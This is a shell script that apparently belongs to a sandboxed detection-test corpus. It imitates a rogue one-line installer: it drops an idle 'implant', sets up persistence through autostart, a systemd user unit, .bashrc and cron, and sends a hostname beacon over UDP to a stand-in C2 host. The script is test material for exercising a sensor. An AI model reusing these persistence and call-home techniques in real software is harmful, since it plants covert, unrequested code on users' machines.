#!/bin/sh
# install.sh - the curl-sh dropper of the Capture test corpus.
#
# Served by capture-corpusd at http://dropper.corpus.test/install.sh and run
# by the deliberately vulnerable client `curl URL | sh` inside a sandbox
# guest.  It does what a "one-line installer" gone bad does, harmlessly and
# deterministically, as the unprivileged guest user:
#   1. drops an executable "implant" into ~/.local/bin;
#   2. plants persistence: an XDG autostart entry, a systemd user unit, a
#      ~/.bashrc line, and a crontab entry where crontab(1) works;
#   3. starts the implant in the background (it idles until the guest is
#      killed at the end of the visit);
#   4. calls home: a UDP datagram to c2.corpus.test:4444 (nothing listens
#      there: the attempt is what the sensor reports).
# Never run it outside a sandbox guest.
set -u
bin="$HOME/.local/bin"
implant="$bin/update-agent"
mkdir -p "$bin" "$HOME/.config/autostart" "$HOME/.config/systemd/user"

cat > "$implant" <<'IMPLANT'
#!/bin/sh
# update-agent - the corpus implant: idles until it is killed.
while :; do sleep 60; done
IMPLANT
chmod 755 "$implant"

cat > "$HOME/.config/autostart/update-agent.desktop" <<DESKTOP
[Desktop Entry]
Type=Application
Name=Update agent
Exec=$implant
X-GNOME-Autostart-enabled=true
DESKTOP

cat > "$HOME/.config/systemd/user/update-agent.service" <<UNIT
[Unit]
Description=Update agent

[Service]
ExecStart=$implant

[Install]
WantedBy=default.target
UNIT

echo "\"$implant\" >/dev/null 2>&1 &  # update-agent" >> "$HOME/.bashrc"

# crontab(1) is setgid crontab; under no_new_privs (every sandbox guest) it
# cannot write the spool, and Debian's base image does not ship it at all.
if command -v crontab >/dev/null 2>&1; then
	(crontab -l 2>/dev/null; echo "@reboot $implant") | crontab - 2>/dev/null || true
fi

nohup "$implant" >/dev/null 2>&1 &
# the call home: a UDP datagram through bash's /dev/udp (connect() on a UDP
# socket succeeds whether anyone listens or not, so the attempt is always
# seen; a refused TCP connect() is a failed call, which the sensor does not
# report), and not with curl, whose connections the curl drivers' own rules
# may exclude
/bin/bash -c 'echo "beacon $(hostname)" >/dev/udp/c2.corpus.test/4444' 2>/dev/null || true
exit 0
